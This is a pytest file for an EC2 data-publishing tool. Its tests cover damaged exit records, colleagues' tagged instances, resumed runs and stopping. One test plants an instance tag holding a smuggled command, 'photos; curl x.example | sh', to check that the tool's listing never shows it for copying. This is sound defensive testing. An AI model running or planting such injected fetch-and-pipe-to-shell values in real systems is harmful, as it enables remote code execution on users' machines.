"""What launch.data publish --by instance makes of other runs, and of tags and records that are damaged."""

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from launch.aws.client import Aws
from launch.aws.names import tags
from launch.data.on_ec2.commands import Follower
from launch.data.on_ec2.facts import PUBLISHES_TAG, read_run, running
from tests.launch.data.on_ec2.desk import NAME, Ec2Desk, opened
from trainer.errors import TrainerError


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Ec2Desk]:
    with opened(tmp_path) as desk:
        yield desk


def leaves(desk: Ec2Desk, instance: Any) -> None:
    """The user presses Ctrl-C, and the instance goes on."""
    raise KeyboardInterrupt


@pytest.mark.parametrize("code", ["0; true", None, [], 1e400, -1, 256])
def test_a_damaged_record_of_the_end_is_a_failure_and_no_traceback(code: object, desk: Ec2Desk) -> None:
    def ends(desk: Ec2Desk, instance: Any) -> None:
        desk.say_end(instance, 0, "done")
        record = desk.account.s3(f"data-runs/{NAME}/exit.json")
        desk.account.put_json(f"data-runs/{NAME}/exit.json", dict(record) | {"code": code})

    desk.node = ends
    assert desk.publish_s3() == 1
    assert desk.billed() == []


def colleagues(desk: Ec2Desk, publishes: str) -> str:
    """An instance of a colleague's that publishes."""
    named = tags(
        "demo", desk.account.bucket, datetime(2026, 1, 1, tzinfo=UTC), datetime(2199, 1, 1, tzinfo=UTC), "AIDAYOU"
    )
    named.append({"Key": "aws-ddp-toolkit:publishes", "Value": publishes})
    made = desk.account.aws().call("ec2", "RunInstances", {
        "ImageId": desk.account.ami, "InstanceType": "g5.2xlarge", "MinCount": 1, "MaxCount": 1,
        "SubnetId": desk.account.subnets["us-east-1a"],
        "TagSpecifications": [{"ResourceType": "instance", "Tags": named}],
    })  # fmt: skip
    return str(made["Instances"][0]["InstanceId"])


def test_a_machine_without_the_tag_of_a_job_publishes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    aws, node = Aws("us-east-1"), {"InstanceId": "i-1", "Tags": [{"Key": PUBLISHES_TAG, "Value": NAME}]}
    monkeypatch.setattr(aws, "pages", lambda *_: [{"Instances": [node]}])
    assert running(aws) == {}


def test_no_command_to_be_copied_has_a_name_that_is_none(desk: Ec2Desk) -> None:
    colleagues(desk, "photos; curl x.example | sh")
    assert desk.type("list") == 0
    assert "curl" not in desk.text
    theirs = colleagues(desk, NAME)
    assert desk.type("list") == 0
    assert theirs in desk.text


def test_who_followed_an_earlier_run_leaves_the_next_one_alone(desk: Ec2Desk) -> None:
    """A laptop that slept meanwhile."""
    desk.node = Ec2Desk.pretend_on
    assert desk.publish_s3() == 0, desk.text
    earlier = read_run(desk.run)
    desk.node = leaves
    assert desk.publish_s3("--replace") == 130
    (there,) = desk.instances

    desk.node = lambda desk, instance: None
    with pytest.raises(TrainerError, match="it ended without a record of why"):
        Follower(desk.account.aws(), desk.clock, desk.said.append, earlier).follow()
    assert [one.id for one in desk.instances] == [there.id]
    assert desk.run["ended"] == ""


def test_a_colleagues_publication_is_stopped_as_ones_own(desk: Ec2Desk) -> None:
    colleagues(desk, NAME)
    assert desk.type("stop", NAME) == 0, desk.text
    assert desk.instances == []
